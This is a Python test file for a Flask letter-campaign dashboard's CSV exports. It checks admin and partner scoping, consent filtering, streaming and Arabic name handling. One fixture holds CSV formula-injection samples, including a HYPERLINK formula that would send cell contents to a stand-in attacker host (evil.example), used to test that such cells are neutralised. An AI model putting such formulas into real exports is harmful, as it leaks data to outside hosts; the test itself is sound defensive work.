"""CSV exports: all letters for admins, opted-in supporters for partners; formula-safe, streamed."""

from __future__ import annotations

import csv
import io
from datetime import timedelta
from typing import Any

import pytest
from flask import Flask
from sqlalchemy import select, update
from werkzeug.test import TestResponse

from tests.conftest import csrf_token
from tests.dashboard.helpers import (
    ADMIN,
    add_partner,
    audit_actions,
    release_leaked_sessions,  # noqa: F401  (a fixture, used below)
    signed_in,
)
from tests.dashboard.letters import (
    PRESIDENT,
    Letter,
    Office,
    add_letters,
)
from tests.supporter.helpers import VALID_LETTER
from webapp.dashboard.deliveries_export import DELIVERY_COLUMNS
from webapp.dashboard.export import (
    ADMIN_COLUMNS,
    LATER_ADMIN_COLUMNS,
    PARTNER_COLUMNS,
)
from webapp.database import db, utcnow, write_transaction
from webapp.models import (
    Consent,
    DeliveryStatus,
    Role,
    Submission,
    SubmissionStatus,
    Supporter,
)
from webapp.services.submissions import email_key
from webapp.wal_checkpoints import checkpointer

pytestmark = pytest.mark.usefixtures("release_leaked_sessions")
INJECTIONS = {
    "first_name": '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "last_name": "+1",
    "city": "-1",
    "personal_message": "@SUM(A1:A9)",
    "street": "\tTabbed Street",
}
CR_NAME = "\rCarriage"
SENATOR = Office("official:S000001", "Sen. Alma Example", DeliveryStatus.SENT, "us_senate", "MI")


@pytest.fixture
def slug(app: Flask, default_campaign: str) -> str:
    """The coalition letter with partners alpha and beta and five letters."""
    add_partner(app, default_campaign, "alpha", "Alpha Org", "Alpha may email me.")
    add_partner(app, default_campaign, "beta", "Beta Org", "Beta may email me.")
    add_letters(
        app,
        default_campaign,
        [
            Letter(
                "Alpha.Fan@Example.org",
                first_name="Amal",
                partner="alpha",
                source="newsletter",
                personal_message="From Idlib.",
                consents=("alpha", None),
                offices=(PRESIDENT, SENATOR),
            ),
            Letter("beta.fan@example.org", first_name="Bashar", state="CA", consents=("beta",)),
            Letter("both@example.org", first_name="Dana", consents=("alpha", "beta")),
            Letter("nobody@example.org", first_name="Nour", partner="alpha", consents=(None,)),
            Letter("withdrawn@example.org", first_name="Wafa", consents=("alpha",)),
        ],
    )
    _update_for(app, "withdrawn@example.org", Consent, withdrawn_at=utcnow())
    return default_campaign


def _update_for(app: Flask, email: str, model: Any, **values: Any) -> None:
    """Set `values` on the rows of `model` (Consent, Submission) of the supporter `email`."""
    with app.app_context():
        key = email_key(email)  # keyed by the app's secret: inside the app
        supporter = select(Supporter.id).where(Supporter.email_key == key).scalar_subquery()
        session = db.session()
        with write_transaction(session):
            session.execute(update(model).where(model.supporter_id == supporter).values(**values))


def _rows(response: TestResponse) -> list[list[str]]:
    assert response.status_code == 200
    text = response.get_data(as_text=True)
    assert text.startswith("\ufeff"), "spreadsheets need the BOM to read Arabic names"
    return list(csv.reader(io.StringIO(text[1:], newline="")))


def test_admin_csv_has_every_letter_with_personal_data(app: Flask, slug: str) -> None:
    _update_for(app, "nobody@example.org", Submission, private=True)
    admin = signed_in(app, ADMIN)
    response = admin.get(f"/dashboard/campaigns/{slug}/export.csv")
    assert response.mimetype == "text/csv"
    assert response.headers["Cache-Control"] == "no-store"
    assert response.headers["Content-Disposition"] == f'attachment; filename="{slug}-letters.csv"'
    header, *rows = _rows(response)
    partners = ["consent_partner_alpha", "consent_partner_beta"]
    assert header == [*ADMIN_COLUMNS, *partners, *LATER_ADMIN_COLUMNS]
    assert len(rows) == 5
    by_email = {row[header.index("email")]: dict(zip(header, row, strict=True)) for row in rows}
    assert set(by_email) == {
        "Alpha.Fan@Example.org",
        "beta.fan@example.org",
        "both@example.org",
        "nobody@example.org",
        "withdrawn@example.org",
    }
    amal = by_email["Alpha.Fan@Example.org"]
    assert (amal["first_name"], amal["last_name"], amal["street"]) == (
        "Amal",
        "Haddad",
        "100 Main St",
    )
    assert (amal["city"], amal["state"], amal["zip"], amal["district"]) == (
        "Dearborn",
        "MI",
        "48126",
        "MI-12",
    )
    assert (amal["partner"], amal["source"], amal["status"]) == ("alpha", "newsletter", "confirmed")
    assert (amal["personalised"], amal["personal_message"], amal["offices"]) == (
        "yes",
        "From Idlib.",
        "2",
    )
    assert (amal["hidden"], amal["flagged"]) == ("no", "no")  # as every other yes-or-no column
    assert (amal["language"], amal["name_as_written"]) == ("en", "")  # a Latin name: no other
    consents = ("consent_updates", "consent_partner_alpha", "consent_partner_beta")
    assert [amal[c] for c in consents] == ["yes", "yes", "no"]
    assert [by_email["both@example.org"][c] for c in consents] == ["no", "yes", "yes"]
    # A withdrawn consent is not a consent.
    assert by_email["withdrawn@example.org"]["consent_partner_alpha"] == "no"
    private = {email for email, row in by_email.items() if row["off_counts_and_lists"] == "yes"}
    assert private == {"nobody@example.org"}
    assert by_email["beta.fan@example.org"]["state"] == "CA"
    assert by_email["nobody@example.org"]["personalised"] == "no"
    assert ("export.letters", {}) in audit_actions(app)


def test_partner_csv_has_only_supporters_who_ticked_its_box(app: Flask, slug: str) -> None:
    alpha = signed_in(app, "alpha@partner.example.org", Role.PARTNER, "alpha")
    response = alpha.get(f"/dashboard/campaigns/{slug}/export.csv")
    assert response.headers["Content-Disposition"] == f'attachment; filename="{slug}-alpha.csv"'
    header, *rows = _rows(response)
    assert header == list(PARTNER_COLUMNS)
    assert "street" not in header and "personal_message" not in header
    emails = [row[header.index("email")] for row in rows]
    assert emails == ["Alpha.Fan@Example.org", "both@example.org"]
    assert {row[header.index("consent_text")] for row in rows} == {"Keep me informed (alpha)"}
    text = response.get_data(as_text=True)
    for absent in ("100 Main St", "beta.fan", "nobody@", "withdrawn@", "From Idlib."):
        assert absent not in text, absent
    beta = signed_in(app, "beta@partner.example.org", Role.PARTNER, "beta")
    header, *rows = _rows(beta.get(f"/dashboard/campaigns/{slug}/export.csv"))
    assert [row[header.index("email")] for row in rows] == [
        "beta.fan@example.org",
        "both@example.org",
    ]
    assert ("export.partner_supporters", {}) in audit_actions(app)


def test_partner_csv_leaves_out_letters_not_confirmed(app: Flask, default_campaign: str) -> None:
    """A letter still waiting for its sender's click, held and declined by the organisers, or
    expired gives the partner nothing: its email address was never shown to be the writer's."""
    add_partner(app, default_campaign, "alpha", "Alpha Org", "Alpha may email me.")
    add_letters(
        app,
        default_campaign,
        [
            *(
                Letter(f"{status.value}@example.org", consents=("alpha",), status=status)
                for status in SubmissionStatus
            ),
            Letter("released@example.org", consents=("alpha",)),
            Letter("clicked@example.org", consents=("alpha",)),
        ],
    )
    # Held: one released by an organiser (address unproven), one its sender confirmed.
    _update_for(app, "released@example.org", Submission, held=True, email_verified=False)
    _update_for(app, "clicked@example.org", Submission, held=True, email_verified=True)
    alpha = signed_in(app, "alpha@partner.example.org", Role.PARTNER, "alpha")
    header, *rows = _rows(alpha.get(f"/dashboard/campaigns/{default_campaign}/export.csv"))
    emails = [row[header.index("email")] for row in rows]
    assert emails == ["confirmed@example.org", "clicked@example.org"]


def test_cells_that_spreadsheets_would_run_are_neutralised(
    app: Flask, default_campaign: str
) -> None:
    add_partner(app, default_campaign, "alpha", "Alpha Org")
    add_letters(
        app,
        default_campaign,
        [
            Letter("=cmd@example.org", consents=("alpha",), **INJECTIONS),  # type: ignore[arg-type]
            Letter("cr@example.org", first_name=CR_NAME, last_name="@Handle", consents=("alpha",)),
        ],
    )
    admin = signed_in(app, ADMIN)
    header, first, second = _rows(admin.get(f"/dashboard/campaigns/{default_campaign}/export.csv"))
    row = dict(zip(header, first, strict=True))
    for column, value in INJECTIONS.items():
        assert row[column] == "'" + value, column
    assert row["email"] == "'=cmd@example.org"
    other = dict(zip(header, second, strict=True))
    assert (other["first_name"], other["last_name"]) == ("'" + CR_NAME, "'@Handle")
    alpha = signed_in(app, "alpha@partner.example.org", Role.PARTNER, "alpha")
    header, first, second = _rows(alpha.get(f"/dashboard/campaigns/{default_campaign}/export.csv"))
    row = dict(zip(header, first, strict=True))
    assert (row["first_name"], row["last_name"], row["city"]) == (
        "'" + INJECTIONS["first_name"],
        "'+1",
        "'-1",
    )
    assert row["email"] == "'=cmd@example.org"
    assert dict(zip(header, second, strict=True))["first_name"] == "'" + CR_NAME
    for line in (first, second):
        assert not any(cell[:1] in {"=", "+", "-", "@", "\t", "\r"} for cell in line), line


def test_export_is_streamed_row_by_row(app: Flask, default_campaign: str) -> None:
    start = utcnow() - timedelta(days=1)
    add_letters(
        app,
        default_campaign,
        [
            Letter(
                f"s{n}@example.org",
                created_at=start + timedelta(minutes=n),
                status=SubmissionStatus.UNCONFIRMED if n % 4 == 0 else SubmissionStatus.CONFIRMED,
                offices=(),
            )
            for n in range(60)
        ],
    )
    admin = signed_in(app, ADMIN)
    response = admin.get(f"/dashboard/campaigns/{default_campaign}/export.csv", buffered=False)
    assert response.is_streamed
    try:
        chunks = list(response.response)
    finally:
        response.close()
    assert len(chunks) == 61  # the header, then one chunk per letter
    rows = list(csv.reader(io.StringIO(b"".join(_bytes(c) for c in chunks).decode(), newline="")))
    email = ADMIN_COLUMNS.index("email")
    assert [r[email] for r in rows[1:]] == [f"s{n}@example.org" for n in range(60)]
    assert [r[1] for r in rows[1:5]] == ["unconfirmed", "confirmed", "confirmed", "confirmed"]


def _bytes(chunk: object) -> bytes:
    assert isinstance(chunk, bytes | str), chunk
    return chunk if isinstance(chunk, bytes) else chunk.encode()


def test_export_returns_its_database_connection(app: Flask, slug: str) -> None:
    admin = signed_in(app, ADMIN)
    assert len(_rows(admin.get(f"/dashboard/campaigns/{slug}/export.csv"))) == 6
    # The export's audit write may be the writer turn that asks for a WAL checkpoint, whose
    # thread holds a connection of this engine for a moment: that one is not the request's.
    assert checkpointer.wait_idle()
    with app.app_context():
        # Nothing may stay checked out (on PostgreSQL: "idle in transaction") after the download.
        assert db.engine.pool.checkedout() == 0  # type: ignore[attr-defined]


def test_deliveries_csv_says_where_every_letter_to_every_office_stands(
    app: Flask, slug: str
) -> None:
    """One row per letter and office: organisers follow up the hand-offs still waiting and the
    letters that failed, and see which reached their office."""
    failing = Office(
        "official:R000009", "Rep. Ben Example", DeliveryStatus.FAILED, "us_house", "MI"
    )
    add_letters(app, slug, [Letter("late@example.org", first_name="Lina", offices=(failing,))])
    admin = signed_in(app, ADMIN)
    response = admin.get(f"/dashboard/campaigns/{slug}/deliveries.csv")
    assert (
        response.headers["Content-Disposition"] == f'attachment; filename="{slug}-deliveries.csv"'
    )
    header, *rows = _rows(response)
    assert header == list(DELIVERY_COLUMNS)
    seen = [dict(zip(header, row, strict=True)) for row in rows]
    assert len(seen) == 7  # Amal wrote to two offices, the five others to one
    amal = [r for r in seen if r["first_name"] == "Amal"]
    assert sorted((r["office"], r["status"]) for r in amal) == [
        ("Sen. Alma Example", "sent"),
        ("The President of the United States", PRESIDENT.status.value),
    ]
    [lina] = [r for r in seen if r["first_name"] == "Lina"]
    assert (lina["email"], lina["status"], lina["office_key"]) == (
        "late@example.org",
        "failed",
        "official:R000009",
    )
    assert ("export.deliveries", {}) in audit_actions(app)
    partner = signed_in(app, "p@alpha.example.org", Role.PARTNER, "alpha")
    assert partner.get(f"/dashboard/campaigns/{slug}/deliveries.csv").status_code == 403


def test_the_letters_csv_keeps_a_name_as_its_writer_wrote_it_and_the_letter_s_language(
    app: Flask, default_campaign: str
) -> None:
    client = app.test_client()
    page = client.get(f"/campaigns/{default_campaign}?lang=ar")
    data = {
        **VALID_LETTER,
        "first_name": "رانيا",
        "last_name": "حداد",
        "latin_first_name": "Rania",
        "latin_last_name": "Haddad",
        "action": "send",
        "csrf_token": csrf_token(page.text),
    }
    assert client.post(f"/campaigns/{default_campaign}?lang=ar", data=data).status_code == 303
    header, *rows = _rows(
        signed_in(app, ADMIN).get(f"/dashboard/campaigns/{default_campaign}/export.csv")
    )
    [row] = [dict(zip(header, r, strict=True)) for r in rows]
    assert (row["first_name"], row["last_name"]) == ("Rania", "Haddad")
    assert row["name_as_written"] == "رانيا حداد"
    assert row["language"] == "ar"


def test_columns_added_later_come_after_those_before_them(app: Flask, slug: str) -> None:
    """A spreadsheet that reads the letters CSV by column position keeps working: the columns
    as they were before the newer ones were added, in order, then the newer ones."""
    admin = signed_in(app, ADMIN)
    header = _rows(admin.get(f"/dashboard/campaigns/{slug}/export.csv"))[0]
    before = [
        "submitted_at",
        "status",
        "prefix",
        "first_name",
        "last_name",
        "name_as_written",
        "email",
        "street",
        "city",
        "state",
        "zip",
        "country",
        "language",
        "district",
        "match",
        "partner",
        "source",
        "personalised",
        "personal_message",
        "offices",
        "hidden",
        "flagged",
        "consent_updates",
        "off_counts_and_lists",
        "consent_partner_alpha",
        "consent_partner_beta",
    ]
    assert header == [*before, "held", "email_verified", "unknown_partner_code"]
